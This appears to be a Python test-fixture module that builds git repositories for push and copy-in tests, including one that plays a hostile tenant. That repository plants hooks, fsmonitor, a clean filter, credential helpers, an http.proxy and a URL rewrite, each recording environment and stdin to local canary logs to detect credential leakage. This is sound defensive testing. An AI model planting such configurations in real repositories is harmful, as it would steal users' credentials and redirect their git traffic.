"""Repositories a hostile tenant (or a real-world project) leaves in a workspace, for copy-in and push tests.

`plant_canaries` makes a repository whose configuration tries every way of getting at a credential that git
running in it would hold: hooks (pre-push, reference-transaction, post-commit), `core.fsmonitor`, a clean filter
on every file, `credential.helper`, an `include.path` that adds another helper, `http.proxy`, and a
`url.<canary>.insteadOf` rewrite of the Gitea URL. Each program it plants appends its environment to a file
under `canaries`; the rewrites point at a CanaryServer. `lfs_repository` makes a repository with real git-lfs.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

CANARY = """#!/bin/sh
# Appends everything this process holds (environment, arguments, stdin) to the canary file.
{{ echo "== $0 $*"; env; }} >> {out}
cat >> {out} 2>/dev/null || true
"""
# A clean filter must echo the file back, or `git add` would store nothing.
FILTER = """#!/bin/sh
{{ echo "== filter $*"; env; }} >> {out}
cat
"""


def git(cwd: Path, *args: str, env: dict[str, str] | None = None) -> str:
    base = {
        "PATH": os.environ["PATH"],
        "HOME": str(cwd),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "dev",
        "GIT_AUTHOR_EMAIL": "dev@example.com",
        "GIT_COMMITTER_NAME": "dev",
        "GIT_COMMITTER_EMAIL": "dev@example.com",
    }
    out = subprocess.run(
        ["git", *args], cwd=cwd, env={**base, **(env or {})}, capture_output=True, text=True, check=True
    )
    return out.stdout.strip()


def one_commit(work: Path) -> str:
    """A new repository at `work` (branch main) with one commit of `lib.py`: that commit."""
    work.mkdir()
    git(work, "init", "-q", "--initial-branch=main")
    (work / "lib.py").write_text("VALUE = 1\n")
    git(work, "add", "lib.py")
    git(work, "commit", "-q", "-m", "lib")
    return git(work, "rev-parse", "HEAD")


def _script(path: Path, text: str) -> str:
    path.write_text(text)
    path.chmod(0o755)
    return str(path)


def plant_canaries(repo: Path, canaries: Path, *, canary_url: str, redirect: str) -> None:
    """A committed repository at `repo` with uncommitted work and every canary planted; `redirect` is the URL
    prefix (the Gitea's) that `insteadOf` sends to `canary_url`."""
    canaries.mkdir(parents=True, exist_ok=True)
    repo.mkdir(parents=True, exist_ok=True)
    git(repo, "init", "-q", "-b", "main")
    (repo / "app.py").write_text("print('v1')\n")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "v1")
    hooks = repo / ".git" / "hooks"
    for hook in ("pre-push", "reference-transaction", "post-commit", "pre-commit", "push-to-checkout"):
        _script(hooks / hook, CANARY.format(out=canaries / f"hook-{hook}.log"))
    monitor = _script(repo / ".git" / "fsmonitor.sh", CANARY.format(out=canaries / "fsmonitor.log"))
    helper = _script(repo / ".git" / "credential.sh", CANARY.format(out=canaries / "credential.log"))
    included_helper = _script(repo / ".git" / "included.sh", CANARY.format(out=canaries / "included.log"))
    clean = _script(repo / ".git" / "clean.sh", FILTER.format(out=canaries / "filter.log"))
    included = repo / ".git" / "extra.config"
    included.write_text(f'[credential]\n\thelper = "{included_helper}"\n[http]\n\tproxy = {canary_url}\n')
    for key, value in (
        ("core.fsmonitor", monitor),
        ("credential.helper", helper),
        ("include.path", str(included)),
        ("http.proxy", canary_url),
        (f"url.{canary_url}/.insteadOf", redirect),
        ("filter.canary.clean", clean),
        ("filter.canary.required", "true"),
    ):
        git(repo, "config", "--add", key, value)
    (repo / ".gitattributes").write_text("* filter=canary\n")
    (repo / "app.py").write_text("print('v2, uncommitted')\n")


def canary_text(canaries: Path) -> str:
    """Everything the canaries recorded."""
    return "".join(p.read_text(errors="replace") for p in sorted(canaries.glob("*.log")))


def lfs_repository(repo: Path, size: int = 3 << 20) -> bytes:
    """A repository that tracks *.bin with real git-lfs (its pre-push hook and filters as `git lfs install`
    writes them); returns the content of its large file, which the working tree holds (smudged)."""
    if shutil.which("git-lfs") is None:
        raise AssertionError("git-lfs is missing: apt-get install git-lfs (.ci/run installs it)")
    repo.mkdir(parents=True, exist_ok=True)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "lfs", "install", "--local")
    git(repo, "lfs", "track", "*.bin")
    content = os.urandom(size)
    (repo / "model.bin").write_bytes(content)
    (repo / "README").write_text("weights in model.bin\n")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "weights")
    pointer = git(repo, "cat-file", "-p", "HEAD:model.bin")
    assert pointer.startswith("version https://git-lfs.github.com/spec/v1"), pointer
    return content
